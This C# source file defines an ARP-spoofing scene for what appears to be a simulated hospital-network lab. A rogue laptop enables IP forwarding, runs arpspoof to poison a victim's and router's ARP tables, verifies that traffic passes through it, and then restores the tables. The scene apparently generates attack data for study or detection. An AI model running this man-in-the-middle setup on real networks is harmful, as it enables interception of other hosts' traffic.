using System.Net;
using Wardkeeper.Lab.Hospital;
using Wardkeeper.Lab.Services;
using Wardkeeper.Lab.Site;

namespace Wardkeeper.Lab.Attacks.Network;

/// <summary>A laptop places itself between two hosts of one department by forged ARP replies, forwards what they say, and puts all right again at the end.</summary>
internal sealed class ArpSpoof() : Scene("arp-spoof",
    "A laptop in a department claims the addresses of two hosts by ARP, forwards what they say to each other, and restores their tables at the end.",
    "科室内一台笔记本电脑通过伪造 ARP 应答冒充两台主机的地址，转发它们之间的通信，最后恢复双方的 ARP 表。",
    "T1557.002", "T0830")
{
    private static readonly TimeSpan Convinced = TimeSpan.FromSeconds(8), Restored = TimeSpan.FromSeconds(15);

    /// <inheritdoc/>
    public override IReadOnlyList<Requirement> Needs => [new("arpspoof", "dsniff"), CardTool.Pinging];

    /// <inheritdoc/>
    public override async Task<SceneReport> RunAsync(SceneStage stage, CancellationToken cancel)
    {
        HostNamespace victim = stage.Site[stage.Dice.Of(Cast.Some(Cast.Inside(stage.Site), "nobody is there to be deceived")).Key];
        // The other end is the router, as mostly, or a neighbour.
        HospitalDevice[] neighbours = [.. Cast.Inside(stage.Site).Where(device => device.Department.Vlan == victim.Device.Department.Vlan && device.Key != victim.Device.Key)];
        string otherKey = neighbours.Length == 0 || stage.Dice.Between(1, 3) > 1 ? HospitalNetwork.Router : stage.Dice.Of(neighbours).Key;
        HostNamespace other = stage.Site[otherKey];
        IPAddress otherIp = otherKey == HospitalNetwork.Router ? HospitalNetwork.RouterOf(victim.Device) : other.Device.Ip;
        int pings = stage.Dice.Between(6, 14);
        TimeSpan pace = stage.Dice.Time(250, 600);

        HostNamespace rogue = await stage.PlugAsync(RogueDevice.In(stage, victim.Device.Department), cancel);
        stage.Afterwards(async () =>
        {
            await CardTool.ForgetAsync(victim, otherIp);
            await CardTool.ForgetAsync(other, victim.Device.Ip);
        });
        // A host believes a reply that it did not ask for only of an address that it knows already.
        if (await CardTool.PingAsync(stage, victim, otherIp, 1, pace, cancel) != 1) throw new LabException($"{victim.Device.Key} does not reach {otherKey} before anybody interferes");
        await IpTool.ShellAsync(rogue.Name, "sysctl -qw net.ipv4.ip_forward=1 net.ipv4.conf.all.send_redirects=0 net.ipv4.conf.eth0.send_redirects=0", cancel);

        stage.Begin();
        int answers;
        string forged = CardTool.Text(rogue.Device.Mac);
        await using (RunningProgram arpspoof = await ProgramRun.ServeAsync(rogue, stage.Site.LogOf(rogue, "arpspoof"), "arpspoof", ["-i", "eth0", "-t", victim.Device.Ip.ToString(), "-r", otherIp.ToString()], [], cancel))
        {
            await UntilAsync(Convinced, async () => await CardTool.BelievedAsync(victim, otherIp, cancel) == forged && await CardTool.BelievedAsync(other, victim.Device.Ip, cancel) == forged,
                () => $"arpspoof deceives {victim.Device.Key} and {otherKey} not: {arpspoof.Tail()}", cancel);
            answers = await CardTool.PingAsync(stage, victim, otherIp, pings, pace, cancel);
            if (answers < pings - 1) throw new LabException($"only {answers} of {pings} pings came through the machine in the middle");
            // Asked to end, it tells both the truth, some times a second apart.
            Kernel.Terminate(arpspoof.Id);
            await UntilAsync(Restored, () => Task.FromResult(arpspoof.HasEnded), () => "arpspoof does not end", cancel);
        }
        if (await CardTool.BelievedAsync(victim, otherIp, cancel) == forged) throw new LabException($"arpspoof left {victim.Device.Key} deceived");
        return new SceneReport([AllOf(rogue)],
            [("department", victim.Device.Department.Key), ("victim", victim.Device.Key), ("other", otherKey), ("attacker", rogue.Device.Ip.ToString()), ("attacker-mac", forged), ("pings", SceneStage.Text(pings))]);
    }

    private static async Task UntilAsync(TimeSpan patience, Func<Task<bool>> reached, Func<string> otherwise, CancellationToken cancel)
    {
        long begin = Environment.TickCount64;
        while (!await reached())
        {
            if (Environment.TickCount64 - begin > patience.TotalMilliseconds) throw new LabException(otherwise());
            await Task.Delay(100, cancel);
        }
    }
}
